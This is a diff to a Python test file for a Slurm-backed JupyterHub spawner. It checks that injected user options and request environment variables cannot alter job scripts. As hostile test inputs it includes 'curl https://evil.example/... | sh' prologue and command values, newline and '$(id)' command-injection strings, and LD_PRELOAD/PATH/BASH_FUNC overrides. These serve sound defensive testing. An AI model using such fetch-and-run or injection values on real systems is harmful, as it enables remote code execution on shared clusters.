@@ -137,10 +137,12 @@ def batch_script(runner: SpawnerRunner) -> str:
 
 def test_user_options_cannot_override_a_slurm_flavor_or_add_job_script_lines(db):
     # given a Slurm Outpost whose flavor sets memory and partition, and a Hub whose request
-    # tries to set them itself and to inject a prologue ("nobody": an account on any host,
-    # which SlurmSpawner needs for the job's home folder)
+    # tries to set them itself (even allow-listed), to replace the command and to inject a
+    # prologue ("nobody": an account on any host, which SlurmSpawner needs for the job's home
+    # folder)
     outpost = OutpostFactory(
-        spawner_class="batchspawner.SlurmSpawner", allowed_user_options=["image"]
+        spawner_class="batchspawner.SlurmSpawner",
+        allowed_user_options=["image", "partition", "memory", "cmd", "account"],
     )
     FlavorFactory(
         outpost=outpost, name="small", resources={"req_memory": "4G", "req_partition": "batch"}
@@ -157,20 +159,64 @@ def test_user_options_cannot_override_a_slurm_flavor_or_add_job_script_lines(db)
             "partition": "bigmem",
             "runtime": "99-00:00:00",
             "prologue": "curl https://evil.example/x | sh",
+            "cmd": "curl https://evil.example/y | sh",
             "image": "lab:1",
+            "account": "proj42",
         },
     )
     server, _ = services.server_start(hub=hub, outpost=outpost, request=request)
     # when the worker builds the real SlurmSpawner for it
     runner = SpawnerRunner.for_server(server)
     script = batch_script(runner)
-    # then the job script holds the flavor's limits and nothing the Hub injected
+    # then the job script holds the flavor's limits, its runtime as the time limit, and
+    # nothing the Hub injected; only options neither the flavor nor the portal decides stay
     assert "#SBATCH --mem=4G\n" in script
     assert "#SBATCH --partition=batch\n" in script
-    assert "--time" not in script
-    for injected in ("900G", "bigmem", "evil.example"):
+    assert "#SBATCH --time=0-02:00:00\n" in script
+    for injected in ("900G", "bigmem", "99-00", "evil.example"):
         assert injected not in script
-    assert runner.spawner.user_options == {"image": "lab:1"}
+    assert runner.spawner.user_options == {"image": "lab:1", "account": "proj42"}
+
+
+@pytest.mark.parametrize("value", ["p1\n#SBATCH --mem=900G", "p1; curl x | sh", "", "$(id)"])
+def test_a_slurm_option_that_is_not_one_plain_word_refuses_the_start(db, value):
+    # given an allow-listed option whose value would add lines or commands to the job script
+    outpost = OutpostFactory(
+        spawner_class="batchspawner.SlurmSpawner", allowed_user_options=["account"]
+    )
+    server = ServerFactory(
+        outpost=outpost, user_name="nobody", status="pending", user_options={"account": value}
+    )
+    # when / then the runner refuses it with a message a user may read
+    with pytest.raises(UnsafeName, match="'account' must be one plain word"):
+        SpawnerRunner.for_server(server)
+
+
+def test_the_request_env_never_sets_what_a_shell_sudo_or_slurm_would_obey(db, tmp_path):
+    # given a request env with Slurm, loader and shell variables beside the Hub's own
+    server = make_server(
+        tmp_path,
+        env={
+            "JUPYTERHUB_API_TOKEN": "server-token",
+            "SBATCH_TIMELIMIT": "99-0",
+            "SLURM_CONF": "/tmp/evil.conf",
+            "LD_PRELOAD": "/tmp/evil.so",
+            "PATH": "/tmp/evil",
+            "PYTHONPATH": "/tmp/evil",
+            "BASH_FUNC_ls%%": "() { id; }",
+            "BAD NAME": "x",
+            "THEME": "dark",
+        },
+    )
+    # when the spawner computes its environment
+    env = SpawnerRunner.for_server(server).spawner.get_env()
+    # then the Hub's harmless variables are there and none of the others came from it
+    assert env["JUPYTERHUB_API_TOKEN"] == "server-token"
+    assert env["THEME"] == "dark"
+    for name in ("SBATCH_TIMELIMIT", "SLURM_CONF", "LD_PRELOAD", "BASH_FUNC_ls%%", "BAD NAME"):
+        assert name not in env
+    assert env.get("PATH") != "/tmp/evil"
+    assert env.get("PYTHONPATH") != "/tmp/evil"
 
 
 def test_a_rebuilt_runner_polls_the_real_exit_status(db, tmp_path, started):
